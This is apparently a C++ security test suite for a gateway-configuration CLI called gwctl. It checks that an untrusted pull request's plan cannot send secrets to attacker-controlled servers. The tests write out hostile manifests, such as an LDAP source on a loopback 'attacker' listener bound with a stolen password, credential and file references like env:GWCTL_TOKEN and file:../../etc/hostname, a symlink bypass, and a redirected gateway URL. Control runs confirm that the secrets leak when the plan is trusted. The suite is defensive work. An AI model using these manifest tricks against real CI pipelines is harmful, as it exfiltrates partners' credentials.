// A pull request is untrusted: its plan runs in CI beside the partner's credentials, so
// nothing the pull request writes may choose where a credential goes. Each probe of the
// security review, as a hostile contributor would write it, against the gwctl binary, a
// real gatewayd, a real slapd and loopback servers that record what they are sent (an
// attacker's LDAP server and gateway). A control run trusting the same revision shows
// each recorder would have caught the secret.
#include <sys/stat.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "gatewayd_fixture.h"
#include "git_cli.h"
#include "process.h"
#include "recording_listener.h"
#include "slapd_fixture.h"
#include "temp_repo.h"

namespace gwctl {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

constexpr const char* kLdapSecretVariable = "GWCTL_SECRET_CORP_LDAP";
constexpr const char* kPanelSecretVariable = "GWCTL_SECRET_ACME_PANEL";
constexpr const char* kPanelSecret = "panel-secret-of-acme";

std::string People(int count) {
  std::string ldif;
  for (int i = 0; i < count; ++i) {
    ldif +=
        gwtest::PersonLdif(fmt::format("user{:03}", i), fmt::format("user{:03}@corp.example", i));
  }
  return ldif;
}

class UntrustedPlanTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(gatewayd_.started());
    ASSERT_TRUE(
        gatewayd_.Client(gwtest::Gatewayd::kOperatorToken)->EnsurePartner("northwind").ok());
    ASSERT_TRUE(slapd_.started()) << slapd_.log();
    ASSERT_NE(attacker_.port(), 0);
    token_ = gwtest::Gatewayd::PartnerToken("northwind");
    setenv("GWCTL_TOKEN", token_.c_str(), 1);
    setenv(kLdapSecretVariable, gwtest::Slapd::kBindPassword, 1);
    setenv(kPanelSecretVariable, kPanelSecret, 1);
    // The base: what the default branch holds, applied.
    WriteRepository(gatewayd_.url(), "");
    repo_.Write("customers/acme.yaml", Acme(""));
    repo_.Write("customers/corp.yaml", Corp("(mail=*)"));
    gwtest::Git(repo_.root(), "init -q");
    Commit("base");
    gwtest::Git(repo_.root(), "checkout -q -b pr");
    std::string output;
    ASSERT_EQ(Gwctl("apply --yes --repo . --ref main", output), 0) << output;
    ASSERT_THAT(output, HasSubstr("corp: ldap " + slapd_.url() + ": 20 users"));
  }
  void TearDown() override {
    for (const char* name : {"GWCTL_TOKEN", kLdapSecretVariable, kPanelSecretVariable})
      unsetenv(name);
  }

  void WriteRepository(const std::string& url, const std::string& token_ref) {
    repo_.Write("gwctl.yaml",
                fmt::format("apiVersion: gwctl/v1\nkind: Repository\nmetadata: "
                            "{{name: northwind}}\nspec:\n  gateway: {{url: '{}'{}}}\n",
                            url, token_ref.empty() ? "" : ", tokenRef: " + token_ref));
  }
  static std::string Acme(const std::string& users) {
    return "apiVersion: gwctl/v1\nkind: Customer\nmetadata: {name: acme}\nspec:\n"
           "  product: ultimate-defense\n  billableUsers: 5\n"
           "  domains: {primary: acme.example}\n  destinations: mx.acme.example\n"
           "  panelLogin: {email: admin@acme.example, passwordRef: env:GWCTL_SECRET_ACME_PANEL}\n" +
           users;
  }
  std::string Corp(const std::string& filter, int billable = 50) const {
    return fmt::format(
        "apiVersion: gwctl/v1\nkind: Customer\nmetadata: {{name: corp}}\nspec:\n"
        "  product: ultimate-defense\n  billableUsers: {}\n"
        "  domains: {{primary: corp.example}}\n  destinations: mail.corp.example\n"
        "  users:\n    ldap:\n      - url: {}\n        insecure: true\n        bindDN: {}\n"
        "        bindPasswordRef: env:{}\n        baseDN: ou=people,{}\n        filter: '{}'\n"
        "        timeoutSeconds: 3\n",
        billable, slapd_.url(), gwtest::Slapd::kBindDn, kLdapSecretVariable, gwtest::Slapd::kSuffix,
        filter);
  }
  // An LDAP source of the attacker's, bound with the one secret a manifest may name.
  std::string AttackerSource(const std::string& password_ref) const {
    return fmt::format(
        "  users:\n    ldap:\n      - url: ldap://127.0.0.1:{}\n        insecure: true\n"
        "        bindDN: cn=exfil\n        bindPasswordRef: {}\n        baseDN: "
        "dc=acme,dc=example\n"
        "        timeoutSeconds: 2\n",
        attacker_.port(), password_ref);
  }

  void Commit(const std::string& message) {
    gwtest::Git(repo_.root(), "add -A");
    gwtest::Git(repo_.root(), "commit -q -m '" + message + "'");
  }

  // gwctl ARGS in the repository, as CI runs it (the partner's token in the environment).
  int Gwctl(const std::string& arguments, std::string& output) {
    auto result = gwtest::RunCommand(
        fmt::format("cd '{}' && '{}' {}", repo_.root().string(), GWCTL_BINARY, arguments));
    output = result.output;
    return result.exit_code;
  }
  // The plan of the pull request, as the README's CI recipe writes it.
  int PlanPullRequest(std::string& output, const std::string& extra = "") {
    return Gwctl("plan --repo . --ref pr --since main " + extra, output);
  }

  gwtest::Gatewayd gatewayd_{{"northwind"}};
  gwtest::Slapd slapd_{{.people_ldif = People(20)}};
  gwtest::RecordingListener attacker_;
  testing::TempRepo repo_;
  std::string token_;
};

TEST_F(UntrustedPlanTest, ANewDirectorySourceIsNotContactedAndGetsNoSecret) {
  repo_.Write("customers/acme.yaml",
              Acme(AttackerSource(std::string("env:") + kLdapSecretVariable)));
  Commit("acme reads users from our directory");
  std::string output;
  EXPECT_EQ(PlanPullRequest(output), 2) << output;
  EXPECT_THAT(output, HasSubstr("as an untrusted revision"));
  EXPECT_THAT(output, HasSubstr(fmt::format(
                          "customer acme: ldap source ldap://127.0.0.1:{} was not read, so the "
                          "users it gave stay on the gateway as they are: its settings are new "
                          "in this revision",
                          attacker_.port())));
  EXPECT_THAT(output, HasSubstr("its users are read after merge"));
  EXPECT_EQ(attacker_.connections(), 0u);
  EXPECT_THAT(output, Not(HasSubstr(gwtest::Slapd::kBindPassword)));

  // Control: trusting the same revision binds to the attacker with the secret.
  EXPECT_EQ(PlanPullRequest(output, "--trusted"), 2) << output;
  EXPECT_GE(attacker_.connections(), 1u);
  EXPECT_THAT(attacker_.received(), HasSubstr(gwtest::Slapd::kBindPassword));
}

TEST_F(UntrustedPlanTest, AChangeBehindASymbolicLinkIsAChange) {
  // At the base, acme's manifest is a link to a file git does not list as a manifest.
  gwtest::Git(repo_.root(), "checkout -q main");
  repo_.Write("data/acme.txt", Acme(""));
  std::filesystem::remove(repo_.root() / "customers/acme.yaml");
  std::filesystem::create_symlink("../data/acme.txt", repo_.root() / "customers/acme.yaml");
  Commit("acme behind a link");
  gwtest::Git(repo_.root(), "checkout -q pr");
  gwtest::Git(repo_.root(), "merge -q --ff-only main");
  // The pull request changes the link's target (and gwctl.yaml, so every customer is
  // planned): the link's own path is unchanged in git's eyes.
  repo_.Write("data/acme.txt", Acme(AttackerSource(std::string("env:") + kLdapSecretVariable)));
  repo_.Write(
      "gwctl.yaml", "# touched\n" + [&] {
        std::ifstream in(repo_.root() / "gwctl.yaml");
        return std::string((std::istreambuf_iterator<char>(in)), {});
      }());
  Commit("through the link");
  std::string output;
  EXPECT_EQ(PlanPullRequest(output), 2) << output;
  EXPECT_THAT(output, HasSubstr(fmt::format("ldap source ldap://127.0.0.1:{} was not read",
                                            attacker_.port())));
  EXPECT_EQ(attacker_.connections(), 0u);
}

TEST_F(UntrustedPlanTest, AManifestCannotNameGwctlsOwnCredentialsOrFilesOutsideTheSecrets) {
  for (const std::string reference : {"env:GWCTL_TOKEN", "env:GWCTL_GIT_TOKEN", "env:HOME",
                                      "file:/etc/hostname", "file:../../etc/hostname"}) {
    repo_.Write("customers/acme.yaml", Acme(AttackerSource(reference)));
    Commit("reference " + reference);
    std::string output;
    for (const std::string trust : {"", "--trusted"}) {
      EXPECT_EQ(PlanPullRequest(output, trust), 1) << reference << "\n" << output;
      EXPECT_THAT(output, HasSubstr("customers/acme.yaml:15:26: error: ")) << reference;
      EXPECT_THAT(output, HasSubstr("[secret-ref]")) << reference;
    }
    EXPECT_THAT(output, Not(HasSubstr(token_)));
  }
  EXPECT_EQ(attacker_.connections(), 0u);
}

TEST_F(UntrustedPlanTest, AnUnchangedSourceIsStillReadAndAChangedOneWaitsForMerge) {
  // The pull request changes corp's mailbox count: its directory source is the base's.
  repo_.Write("customers/corp.yaml", Corp("(mail=*)", 60));
  Commit("corp grows");
  std::string output;
  EXPECT_EQ(PlanPullRequest(output), 2) << output;
  EXPECT_THAT(output, HasSubstr("corp: ldap " + slapd_.url() + ": 20 users"));
  EXPECT_THAT(output, Not(HasSubstr("was not read")));

  // A new filter could make the plan print what else the directory holds: not until merge.
  repo_.Write("customers/corp.yaml", Corp("(uid=*)", 60));
  Commit("corp filter");
  EXPECT_EQ(PlanPullRequest(output), 2) << output;
  EXPECT_THAT(output, HasSubstr("ldap source " + slapd_.url() + " was not read"));
  EXPECT_THAT(output, Not(HasSubstr("users: +0 ~0 -20")));  // its users are kept

  // Merged, the loop or apply trusts it and reads it.
  gwtest::Git(repo_.root(), "checkout -q main");
  gwtest::Git(repo_.root(), "merge -q --ff-only pr");
  EXPECT_EQ(Gwctl("apply --yes --repo . --ref main", output), 0) << output;
  EXPECT_THAT(output, HasSubstr("corp: ldap " + slapd_.url() + ": 20 users"));
}

TEST_F(UntrustedPlanTest, APullRequestCannotMoveTheGatewayOrChooseItsToken) {
  std::filesystem::path secrets = repo_.root() / "operator-secrets";
  std::filesystem::create_directories(secrets);
  std::ofstream(secrets / "other.token") << "another-secret-the-operator-keeps\n";
  unsetenv("GWCTL_TOKEN");  // CI gives the token by reference this time: the base's tokenRef
  std::ofstream(secrets / "gateway.token") << token_ << "\n";
  WriteRepository(gatewayd_.url(), "file:gateway.token");
  gwtest::Git(repo_.root(), "checkout -q main");
  Commit("the token by reference");
  gwtest::Git(repo_.root(), "checkout -q pr");
  gwtest::Git(repo_.root(), "merge -q --ff-only main");

  WriteRepository(fmt::format("http://127.0.0.1:{}", attacker_.port()), "file:other.token");
  Commit("our gateway moved");
  std::string output;
  std::string flags = "--secrets-dir '" + secrets.string() + "'";
  EXPECT_EQ(PlanPullRequest(output, flags), 0) << output;
  EXPECT_THAT(output, HasSubstr(fmt::format(
                          "warning: gwctl.yaml: spec.gateway changes in this revision (url '{}' "
                          "-> 'http://127.0.0.1:{}', tokenRef 'file:gateway.token' -> "
                          "'file:other.token'): an untrusted plan ignores it",
                          gatewayd_.url(), attacker_.port())));
  EXPECT_THAT(output, HasSubstr("No changes."));  // planned against the real gateway
  EXPECT_EQ(attacker_.connections(), 0u);

  // Control: trusted, the same revision sends the other secret to the attacker.
  EXPECT_NE(PlanPullRequest(output, flags + " --trusted"), 0) << output;
  EXPECT_THAT(attacker_.received(), HasSubstr("Authorization: Bearer another-secret"));

  // An embedded store the pull request names is not created either.
  std::filesystem::path planted = repo_.root() / "planted" / "created-by-pr.db";
  WriteRepository("embedded:" + planted.string(), "");
  Commit("embedded");
  EXPECT_EQ(PlanPullRequest(output, flags), 0) << output;
  EXPECT_FALSE(std::filesystem::exists(planted));
}

TEST_F(UntrustedPlanTest, ASecretReferenceNewInThePullRequestIsNotRead) {
  setenv("GWCTL_SECRET_OTHER", "another-value", 1);
  std::string acme = Acme("");
  acme.replace(acme.find("env:GWCTL_SECRET_ACME_PANEL"), 27, "env:GWCTL_SECRET_OTHER");
  repo_.Write("customers/acme.yaml", acme);
  Commit("the panel password of acme from elsewhere");
  std::string output;
  auto saved = repo_.root() / "pr.plan";
  EXPECT_EQ(PlanPullRequest(output, "--out '" + saved.string() + "'"), 2) << output;
  EXPECT_THAT(output, HasSubstr("customer acme: panelLogin.passwordRef env:GWCTL_SECRET_OTHER is "
                                "new in this revision: an untrusted plan does not read it"));
  EXPECT_THAT(output, HasSubstr("panelLogin.password: (secret"));
  // The saved plan holds no fingerprint of it, and cannot be applied: plan it again.
  std::ifstream in(saved);
  std::string plan((std::istreambuf_iterator<char>(in)), {});
  EXPECT_THAT(plan, HasSubstr("unread (untrusted revision)"));
  EXPECT_EQ(Gwctl("apply --plan '" + saved.string() + "'", output), 4) << output;
  EXPECT_THAT(output, HasSubstr("untrusted run, which did not read the secret"));
  unsetenv("GWCTL_SECRET_OTHER");
}

}  // namespace
}  // namespace gwctl
